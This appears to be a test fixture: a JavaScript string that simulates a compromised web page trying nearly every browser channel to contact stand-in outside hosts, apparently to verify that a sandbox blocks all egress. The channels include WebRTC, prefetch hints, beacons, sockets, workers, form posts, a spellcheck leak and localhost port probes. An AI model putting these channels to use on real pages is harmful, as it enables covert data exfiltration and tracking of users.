// What a taken-over page tries in order to reach anybody: every way that a web page has. It runs in the page as a text.

/** The script; it ends with the number of ways that it tried. */
export const pageScript = `(async () => {
  const outside = '198.51.100.'
  const nameOf = (n) => 'photos-of-the-divorce-' + n + '.example.test'
  let tried = 0
  const attempt = async (way) => {
    tried += 1
    try { await Promise.race([way(), new Promise((go) => setTimeout(go, 1500))]) } catch {}
  }
  const add = (tag, facts, text = '') => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(facts)) element.setAttribute(name, value)
    element.textContent = text
    document.body.append(element)
    return element
  }
  const peers = []
  for (const url of ['stun:' + outside + '7:3478', 'stun:' + nameOf(1) + ':3478', 'turn:' + outside + '7:3478?transport=udp',
    'turn:' + outside + '7:3478?transport=tcp', 'turns:' + nameOf(2) + ':443?transport=tcp'])
    await attempt(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'a', credential: 'b' }] })
      peers.push(peer)
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      // A stranger's answer, with an address of theirs.
      await peer.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 udp 2122260223 ' + outside + '8 40000 typ host' })
      await new Promise((done) => (peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done()))
    })
  await attempt(async () => {
    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]
    peers.push(a, b)
    a.createDataChannel('x')
    await a.setLocalDescription(await a.createOffer())
    const offer = a.localDescription.sdp + 'a=candidate:1 1 udp 2122260223 ' + outside + '9 40001 typ host\\r\\n'
    await b.setRemoteDescription({ type: 'offer', sdp: offer })
    await b.setLocalDescription(await b.createAnswer())
    await a.setRemoteDescription({ type: 'answer', sdp: b.localDescription.sdp + 'a=candidate:1 1 udp 2122260223 ' + outside + '9 40001 typ host\\r\\n' })
  })
  let n = 10
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'])
    for (const host of ['https://' + nameOf(n++), 'https://' + outside + '10'])
      await attempt(async () => add('link', { rel, href: host + '/a', as: 'image' }))
  for (const host of ['https://' + nameOf(n++), 'https://' + outside + '11', 'http://' + outside + '11']) {
    await attempt(async () => add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [host + '/b'] }], prerender: [{ source: 'list', urls: [host + '/c'] }] })))
    for (const tag of ['img', 'script', 'iframe', 'audio', 'video', 'embed', 'track', 'source', 'portal', 'input'])
      await attempt(async () => add(tag, { src: host + '/d', type: 'image' }))
    await attempt(async () => add('object', { data: host + '/e' }))
    await attempt(async () => add('video', { poster: host + '/f' }))
    await attempt(async () => add('div', { style: 'background:url(' + host + '/g);list-style-image:url(' + host + '/h)' }))
    await attempt(async () => add('svg', {}).append(add('image', { href: host + '/i' })))
    await attempt(() => new FontFace('x' + n++, 'url(' + host + '/j.woff2)').load())
    await attempt(() => fetch(host + '/k', { mode: 'no-cors', keepalive: true }))
    await attempt(() => fetch(host + '/l', { method: 'POST', body: 'x' }))
    await attempt(async () => navigator.sendBeacon(host + '/m', 'x'))
    await attempt(async () => { const ask = new XMLHttpRequest(); ask.open('GET', host + '/n'); ask.send() })
    await attempt(async () => new WebSocket(host.replace('http', 'ws') + '/o'))
    await attempt(async () => new EventSource(host + '/p'))
    await attempt(async () => new WebTransport(host + ':443/q').ready)
    await attempt(() => import(host + '/r.js'))
    await attempt(async () => new Worker(host + '/s.js'))
    await attempt(async () => new SharedWorker(host + '/t.js'))
    await attempt(() => navigator.serviceWorker.register(host + '/u.js'))
    await attempt(async () => add('a', { href: host + '/v', ping: host + '/w', target: '_blank' }).click())
    await attempt(async () => window.open(host + '/x'))
    await attempt(async () => add('form', { action: host + '/y', method: 'post' }).submit())
    await attempt(async () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + host + '/z' })))
    await attempt(async () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "img-src 'self'; report-uri " + host + '/csp' })))
    await attempt(async () => { location.href = host + '/away' })
  }
  await attempt(async () => {
    const text = add('textarea', { spellcheck: 'true', lang: 'de' })
    text.focus()
    document.execCommand('insertText', false, 'Fotoss vonn derr Scheidunng ')
  })
  for (const port of [9, 80, 443, 3000])
    await attempt(() => fetch('http://127.0.0.1:' + port + '/', { mode: 'no-cors' }))
  await new Promise((go) => setTimeout(go, 3000))
  for (const peer of peers) peer.close()
  return tried
})()`
